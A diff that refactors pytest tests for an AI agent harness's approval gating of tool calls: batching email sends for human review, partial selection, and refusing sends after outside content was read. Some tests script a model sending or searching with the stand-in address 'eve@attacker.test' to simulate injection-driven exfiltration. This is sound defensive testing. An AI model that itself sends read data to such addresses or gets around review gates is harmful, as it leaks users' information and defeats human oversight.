@@ -184,81 +184,85 @@ async def test_a_fixed_party_is_asked_freely_until_something_from_outside_was_re
     assert len(channel.asked) == 1
 
 
-class TestTogether:
-    """Calls that one answer of a model makes are one question."""
-
-    CALLS = (send("bob@example.org"), send("carol@example.net"))
-
-    async def test_they_stand_on_one_card_each_whole(self) -> None:
-        channel = Answering(BatchAnswer(verdict="approve"))
-        house, _ = await play(channel, self.CALLS)
-        (card,) = channel.asked
-        assert [call["to"] for call in house.sender.calls] == [
-            "bob@example.org",
-            "carol@example.net",
-        ]
-        assert card.intent == "Allow 2 calls"
-        assert "bob@example.org" in channel.shown()
-        assert "carol@example.net" in channel.shown()
-
-    async def test_silence_declines_all(self) -> None:
-        house, _ = await play(Answering(), self.CALLS)
-        assert house.sender.calls == []
-
-    async def test_one_of_them_may_be_chosen(self) -> None:
-        channel = Answering(BatchAnswer(verdict="edit_selection"), "decline", "approve")
-        house, _ = await play(channel, self.CALLS)
-        assert [call["to"] for call in house.sender.calls] == ["carol@example.net"]
-        assert len(channel.asked) == 3
-
-    async def test_a_selection_names_what_it_allows(self) -> None:
-        class Choosing(Answering):
-            async def ask(self, to: str, card: Card[Any]) -> Any:
-                answer = await super().ask(to, card)
-                if not isinstance(card, BatchReviewCard):
-                    return answer
-                first = card.item_ids[:1]
-                return BatchAnswer(verdict="edit_selection", selected_item_ids=first)
-
-        house, _ = await play(Choosing(), self.CALLS)
-        assert [call["to"] for call in house.sender.calls] == ["bob@example.org"]
+# Calls that one answer of a model makes are one question.
+TOGETHER = (send("bob@example.org"), send("carol@example.net"))
 
 
-class TestInATurn:
-    """A turn has no plan: it looks things up, and asks before it carries words elsewhere."""
+async def test_calls_of_one_step_stand_on_one_card_each_whole() -> None:
+    channel = Answering(BatchAnswer(verdict="approve"))
+    house, _ = await play(channel, TOGETHER)
+    (card,) = channel.asked
+    assert [call["to"] for call in house.sender.calls] == [
+        "bob@example.org",
+        "carol@example.net",
+    ]
+    assert card.intent == "Allow 2 calls"
+    assert "bob@example.org" in channel.shown()
+    assert "carol@example.net" in channel.shown()
 
-    @staticmethod
-    async def answered(channel: Answering, *calls: CallTool) -> House:
-        route = RouteDecision(
-            route="direct",
-            reason="known",
-            response=AgentResponse(message="Done."),
-            interaction_register=InteractionRegister.status,
-            interaction_mode=InteractionMode.act_and_report,
-            context_profile="conversation",
-        )
-        proxy = ScriptedModel([*calls, route])
-        async with Harness(channel, models={"proxy": proxy}) as h:
-            house = House(h.silas.registry, offered=("proxy",))
-            await h.silas.ask(f"What is new? Write to {ALICE} if need be.")
-        return house
 
-    async def test_what_changes_something_is_refused_and_nobody_is_asked(self) -> None:
-        channel = Answering("approve", "approve")
-        house = await self.answered(channel, read(), send(), send("eve@attacker.test"))
-        assert house.sender.calls == []
-        assert channel.asked == []
+async def test_silence_declines_all_of_them() -> None:
+    house, _ = await play(Answering(), TOGETHER)
+    assert house.sender.calls == []
 
-    async def test_a_look_up_with_words_from_outside_is_made_where_the_owner_says_so(self) -> None:
-        channel = Answering("approve", "decline")
-        first = CallTool("look_up", {"q": "eve@attacker.test"})
-        second = CallTool("look_up", {"q": "what else was read"})
-        house = await self.answered(channel, read(), first, second)
-        assert house.search.calls == [{"q": "eve@attacker.test"}]
-        assert "| eve@attacker.test" in channel.shown()
 
-    async def test_before_anything_was_read_a_look_up_is_free(self) -> None:
-        channel = Answering()
-        house = await self.answered(channel, CallTool("look_up", {"q": "news"}))
-        assert house.search.calls == [{"q": "news"}]
-        assert channel.asked == []
+async def test_one_of_several_calls_may_be_chosen() -> None:
+    channel = Answering(BatchAnswer(verdict="edit_selection"), "decline", "approve")
+    house, _ = await play(channel, TOGETHER)
+    assert [call["to"] for call in house.sender.calls] == ["carol@example.net"]
+    assert len(channel.asked) == 3
+
+
+async def test_a_selection_of_calls_names_what_it_allows() -> None:
+    class Choosing(Answering):
+        async def ask(self, to: str, card: Card[Any]) -> Any:
+            answer = await super().ask(to, card)
+            if not isinstance(card, BatchReviewCard):
+                return answer
+            first = card.item_ids[:1]
+            return BatchAnswer(verdict="edit_selection", selected_item_ids=first)
+
+    house, _ = await play(Choosing(), TOGETHER)
+    assert [call["to"] for call in house.sender.calls] == ["bob@example.org"]
+
+
+# A turn has no plan: it looks things up, and asks before it carries words elsewhere.
+
+
+async def answered(channel: Answering, *calls: CallTool) -> House:
+    route = RouteDecision(
+        route="direct",
+        reason="known",
+        response=AgentResponse(message="Done."),
+        interaction_register=InteractionRegister.status,
+        interaction_mode=InteractionMode.act_and_report,
+        context_profile="conversation",
+    )
+    proxy = ScriptedModel([*calls, route])
+    async with Harness(channel, models={"proxy": proxy}) as h:
+        house = House(h.silas.registry, offered=("proxy",))
+        await h.silas.ask(f"What is new? Write to {ALICE} if need be.")
+    return house
+
+
+async def test_in_a_turn_what_changes_something_is_refused_and_nobody_is_asked() -> None:
+    channel = Answering("approve", "approve")
+    house = await answered(channel, read(), send(), send("eve@attacker.test"))
+    assert house.sender.calls == []
+    assert channel.asked == []
+
+
+async def test_a_look_up_with_words_from_outside_is_made_where_the_owner_says_so() -> None:
+    channel = Answering("approve", "decline")
+    first = CallTool("look_up", {"q": "eve@attacker.test"})
+    second = CallTool("look_up", {"q": "what else was read"})
+    house = await answered(channel, read(), first, second)
+    assert house.search.calls == [{"q": "eve@attacker.test"}]
+    assert "| eve@attacker.test" in channel.shown()
+
+
+async def test_before_anything_was_read_a_look_up_is_free() -> None:
+    channel = Answering()
+    house = await answered(channel, CallTool("look_up", {"q": "news"}))
+    assert house.search.calls == [{"q": "news"}]
+    assert channel.asked == []
